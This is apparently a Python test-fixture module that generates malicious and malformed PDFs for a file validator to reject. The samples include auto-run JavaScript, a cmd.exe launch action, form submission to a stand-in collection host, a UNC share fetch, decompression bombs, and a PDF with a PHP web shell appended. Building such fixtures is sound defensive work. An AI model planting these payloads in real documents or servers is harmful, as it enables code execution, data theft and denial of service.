"""PDF that acts, hides, bursts or is broken."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.documents.good import archive, docx_files, encoded, large_pdf, pdf, pdf_bytes, pdf_document

Made = dict[str, tuple[str, Callable[[], bytes], str]]
Change = Callable[[Pdf], None]


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


ACTIONS: dict[str, Callable[[], Dictionary]] = {
    "script": _script,
    "launch": lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")),
    "submit": lambda: Dictionary(S=Name.SubmitForm, F=String("http://collect.example/")),
    "import": lambda: Dictionary(S=Name.ImportData, F=String("data.fdf")),
    "go to another file": lambda: Dictionary(S=Name.GoToR, F=String(r"\\host.example\share")),
    "go to an embedded file": lambda: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C)),
    "rendition": lambda: Dictionary(S=Name.Rendition, OP=0),
    "film": lambda: Dictionary(S=Name.Movie),
    "sound": lambda: Dictionary(S=Name.Sound),
    "rich media": lambda: Dictionary(S=Name.RichMediaExecute),
}


def documents() -> Made:
    """By what they are: file name, maker, reason."""
    made: Made = {}
    for name, action in ACTIONS.items():
        for place, put in _PLACES.items():
            made[f"pdf: {name} {place}"] = _pdf(partial(put, action), "active")
    for name, change in _ACTIVE.items():
        made[f"pdf: {name}"] = _pdf(change, "active")
    made["pdf: script in a packed object"] = (
        "a.pdf",
        lambda: _changed(partial(_at_open, ACTIONS["script"]), packed=True),
        "active",
    )
    for name, change in _BURSTING.items():
        made[f"pdf: {name}"] = _pdf(change, "too_much_inside")
    for name, maker in _TOO_MUCH.items():
        made[f"pdf: {name}"] = ("a.pdf", maker, "too_much_inside")
    for strength in (2, 3, 4, 6):
        made[f"pdf: password, strength {strength}"] = (
            "a.pdf",
            partial(_locked, strength, "open"),
            "protected",
        )
        made[f"pdf: encrypted, strength {strength}"] = ("a.pdf", partial(_locked, strength, ""), "protected")
    for name, maker in _BROKEN.items():
        made[f"pdf: {name}"] = ("a.pdf", maker, "damaged")
    for name, appended in _APPENDED.items():
        made[f"pdf: with {name} behind it"] = ("a.pdf", partial(_with, appended), "mismatch")
    return made


def _pdf(change: Change, reason: str) -> tuple[str, Callable[[], bytes], str]:
    return "a.pdf", partial(_changed, change), reason


def _changed(change: Change, *, packed: bool = False) -> bytes:
    document = pdf_document()
    change(document)
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    as_they_are = {"stream_decode_level": pikepdf.StreamDecodeLevel.none, "compress_streams": False}
    return pdf_bytes(document, object_stream_mode=mode, **as_they_are)


# --- what acts ---


def _at_open(action: Callable[[], Dictionary], document: Pdf) -> None:
    document.Root.OpenAction = action()


def _on_page(action: Callable[[], Dictionary], document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=document.make_indirect(action()))


def _on_click(action: Callable[[], Dictionary], document: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action())
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _in_chain(action: Callable[[], Dictionary], document: Pdf) -> None:
    harmless = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([action()]))
    document.Root.OpenAction = harmless


_PLACES = {
    "when it is opened": _at_open,
    "when a page is shown": _on_page,
    "behind a link": _on_click,
    "as the next action": _in_chain,
}


def _named_script(document: Pdf) -> None:
    names = Dictionary(Names=Array([String("s"), document.make_indirect(_script())]))
    document.Root.Names = Dictionary(JavaScript=names)


def _file(document: Pdf) -> None:
    document.attachments["payload.bin"] = b"payload"


def _file_note(document: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9])
    document.pages[0].Annots = Array([note])


def _forms_of_xml(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _field_script(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("f"), AA=Dictionary(K=_script()))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _address_at_open(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.URI, URI=String("http://track.example/"))


def _address_on_page(document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("http://track.example/")))


def _stream_elsewhere(document: Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = String("http://track.example/content")
    document.pages[0].Contents = stream


def _note(kind: str, document: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9])
    document.pages[0].Annots = Array([note])


def _script_nobody_refers_to(document: Pdf) -> None:
    document.Root.Extra = Dictionary(Deep=Array([Dictionary(Deeper=Array([_script()]))]))


_ACTIVE: dict[str, Change] = {
    "script by name": _named_script,
    "an embedded file": _file,
    "a file as a note": _file_note,
    "forms of XML": _forms_of_xml,
    "script of a field": _field_script,
    "an address that is opened at once": _address_at_open,
    "an address that a page opens": _address_on_page,
    "content that lies elsewhere": _stream_elsewhere,
    "script hidden deep": _script_nobody_refers_to,
    "a screen": partial(_note, "Screen"),
    "a film in a note": partial(_note, "Movie"),
    "a sound in a note": partial(_note, "Sound"),
    "rich media in a note": partial(_note, "RichMedia"),
    "three dimensions": partial(_note, "3D"),
}


# --- what bursts ---


def _packed_content(size: int, document: Pdf) -> None:
    packed = zlib.compress(bytes(size), 9)
    document.pages[0].Contents = pikepdf.Stream(document, packed, Filter=Name.FlateDecode)


def _many_bombs(document: Pdf) -> None:
    packed = zlib.compress(bytes(50_000_000), 9)
    parts = [pikepdf.Stream(document, packed, Filter=Name.FlateDecode, N=n) for n in range(6)]
    document.pages[0].Contents = Array([document.make_indirect(part) for part in parts])


def _packed_twice(document: Pdf) -> None:
    packed = zlib.compress(zlib.compress(bytes(10_000_000), 9), 9)
    twice = pikepdf.Stream(document, packed, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    document.pages[0].Contents = twice


def _huge_picture(document: Pdf) -> None:
    picture = pikepdf.Stream(document, zlib.compress(bytes(1_000_000)), Filter=Name.FlateDecode)
    picture.Subtype, picture.Width, picture.Height = Name.Image, 60_000, 60_000
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceGray, 8
    document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=picture))


_BURSTING: dict[str, Change] = {
    "content that unpacks to 130 MB": partial(_packed_content, 130_000_000),
    "content that unpacks to 70 MB": partial(_packed_content, 70_000_000),
    "many contents that unpack": _many_bombs,
    "content that is packed twice": _packed_twice,
    "a picture of 3,600 million pixels": _huge_picture,
}


def _objects_that_unpack() -> bytes:
    """An object stream of 70 megabytes, which is unpacked to read any object of it."""
    packed = zlib.compress(b"2 0 " + b" " * 70_000_000, 9)
    return _raw(
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
        b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream\nendobj\n"
        % (len(packed), packed),
        compressed={2: (3, 0)},
    )


def _raw(*objects: bytes, compressed: dict[int, tuple[int, int]]) -> bytes:
    """A document with a cross-reference stream (7.5.8)."""
    body, places = b"%PDF-1.7\n", {}
    for one in objects:
        places[int(one.split()[0])] = len(body)
        body += one
    number = max([*places, *compressed]) + 1
    places[number] = len(body)
    rows = b"\x00\x00\x00\x00\x00\xff"
    for at in range(1, number + 1):
        if at in compressed:
            stream, index = compressed[at]
            rows += b"\x02" + stream.to_bytes(4, "big") + index.to_bytes(1, "big")
        else:
            rows += b"\x01" + places[at].to_bytes(4, "big") + b"\x00"
    table = b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%b\nendstream\nendobj\n"
    return body + table % (number, number + 1, len(rows), rows) + b"startxref\n%d\n%%%%EOF\n" % places[number]


def _many_pages() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    for _ in range(1_100):
        document.pages.append(page)
    return pdf_bytes(document)


def _nested() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Deep " + b"[" * 3_000 + b"]" * 3_000 + b" /Type /Catalog", 1)


def _many_objects() -> bytes:
    document = pdf_document()
    document.Root.Many = Array([document.make_indirect(Dictionary(N=number)) for number in range(100_100)])
    return pdf_bytes(document)


_TOO_MUCH: dict[str, Callable[[], bytes]] = {
    "objects that unpack to 70 MB": _objects_that_unpack,
    "1,100 pages": _many_pages,
    "arrays 3,000 deep": _nested,
    "100,100 objects": _many_objects,
}


# --- what is locked, broken, or two things ---


def _locked(strength: int, word: str) -> bytes:
    rights = pikepdf.Encryption(owner="owner", user=word, R=strength, aes=strength > 3, metadata=strength > 3)
    return pdf_bytes(pdf_document(), encryption=rights)


def _cut(share: float) -> bytes:
    whole = large_pdf(300_000)
    return whole[: int(len(whole) * share)]


def _without(part: bytes) -> bytes:
    return pdf().replace(part, b"X" * len(part))


def _noise() -> bytes:
    return b"%PDF-1.7\n" + random.Random(1).randbytes(50_000)


def _round() -> bytes:
    document = pdf_document()
    document.Root.Pages.Kids.append(document.Root.Pages)
    return pdf_bytes(document)


_BROKEN: dict[str, Callable[[], bytes]] = {
    "cut in the middle": partial(_cut, 0.5),
    "cut near its end": partial(_cut, 0.98),
    "cut after its head": lambda: pdf()[:12],
    "noise": _noise,
    "noise with an end": lambda: _noise() + b"\n%%EOF\n",
    "a head and text": lambda: b"%PDF-1.4\n" + b"content " * 30_000,
    "without its pages": partial(_without, b"/Pages"),
    "without its catalogue": partial(_without, b"/Root"),
    "no page at all": lambda: pdf_bytes(pikepdf.new()),
    "pages that go round": _round,
}


def _with(appended: Callable[[], bytes]) -> bytes:
    return pdf() + appended()


def _program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(2_000)


_APPENDED: dict[str, Callable[[], bytes]] = {
    "an archive": lambda: archive({"payload.txt": "payload"}),
    "an office document": lambda: archive(docx_files()),
    "a page": lambda: b"<html><script>alert(1)</script></html>" + b" " * 2_000,
    "a program": _program,
    "another archive": lambda: b"Rar!\x1a\x07\x00" + bytes(2_000),
    "a third kind of archive": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(2_000),
    "a page of PHP": lambda: b"<?php system($_GET[0]); ?>" + b" " * 2_000,
    "an archive with a picture": lambda: archive({"a.png": encoded("PNG")}),
}
